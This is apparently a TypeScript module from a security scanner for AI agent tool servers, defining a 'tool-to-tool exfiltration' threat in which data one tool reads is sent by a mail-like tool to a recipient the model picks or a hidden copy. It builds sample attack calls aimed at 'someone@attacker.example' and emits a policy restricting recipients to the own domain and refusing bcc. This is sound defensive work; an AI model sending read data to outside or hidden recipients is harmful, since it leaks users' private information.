import { RECIPIENTS } from '../flow-words.js';
import { setOf } from '../words.js';
import { READ_FILE, SEND_EMAIL } from './examples.js';
import { sampleArguments } from './sample.js';
import { atlas, safeMcpRow } from './sources.js';
import type { Threat } from './threat.js';
import { argumentOf, entry, has, isOf, pathTo, perTool, when } from './tools-of.js';

const RECIPIENT = setOf(RECIPIENTS);
const COPIES = setOf('bcc cc');

export const TOOL_TO_TOOL: Threat = {
  id: 'tool-to-tool-exfiltration',
  title: 'Tool-to-tool exfiltration',
  how: "What one tool has read is what the next one sends: to an address that only the model chose, or as a copy to one that nobody sees. No stranger's text is needed; a wrong guess at an address is enough.",
  sources: [
    safeMcpRow('SAFE-T1914', 'Tool-to-Tool Exfil'),
    atlas('AML.T0086', 'Exfiltration via AI Agent Tool Invocation'),
  ],
  opens: 'a tool that sends to a recipient that stands in an argument',
  sight: 'calls',
  rule: 'Recipients must be of your own domain, and unseen copies are refused.',
  leaves: 'Who shares a domain with you, and what a recipient passes on.',
  example: [{ server: 'mail', tools: [READ_FILE, SEND_EMAIL] }],
  openings: (servers) =>
    perTool(servers, (at) => {
      const to = argumentOf(at.tool, RECIPIENT, 'string') ?? argumentOf(at.tool, RECIPIENT, 'array');
      if (to === undefined || !has(at, 'sends') || isOf(at, 'Destructive')) return undefined;
      const list = argumentOf(at.tool, RECIPIENT, 'string') === undefined;
      const copy = argumentOf(at.tool, COPIES, 'string') ?? argumentOf(at.tool, COPIES, 'array');
      const own = 'colleague@example.com';
      const foreign = 'someone@attacker.example';
      const of = (value: string, isList: boolean) => (isList ? [value] : value);
      const attacks = [[{ ...at, args: sampleArguments(at.tool.inputSchema, { [to]: of(foreign, list) }) }]];
      if (copy !== undefined && copy !== to) {
        const isList = argumentOf(at.tool, COPIES, 'string') === undefined;
        const args = sampleArguments(at.tool.inputSchema, {
          [to]: of(own, list),
          [copy]: of(foreign, isList),
        });
        attacks.push([{ ...at, args }]);
      }
      const path = list ? `${pathTo(to)}[*]` : pathTo(to);
      return {
        why: `argument "${to}" says who gets it`,
        attacks,
        fix: entry(at, {
          require: [
            when(path, 'regex', '^[A-Za-z0-9._+-]+@example[.]com$', 'Only to recipients of our own domain.'),
          ],
          ...(copy !== undefined &&
            copy !== to && { deny_if: [when(pathTo(copy), 'exists', true, 'No unseen copies.')] }),
        }),
      };
    }),
};
